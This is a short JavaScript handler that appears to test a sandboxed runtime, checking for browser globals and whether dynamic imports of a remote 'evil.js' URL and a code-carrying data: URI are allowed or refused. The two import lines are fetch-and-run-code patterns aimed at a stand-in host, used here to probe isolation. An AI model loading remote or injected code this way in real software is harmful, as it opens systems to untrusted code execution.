const attempt = (specifier) =>
  import(specifier).then(
    () => "done",
    () => "refused",
  );

exports.handler = async () => ({
  location: typeof location,
  open: typeof open,
  importHttp: await attempt("https://example.com/evil.js"),
  importData: await attempt("data:text/javascript,globalThis.evil=1"),
});
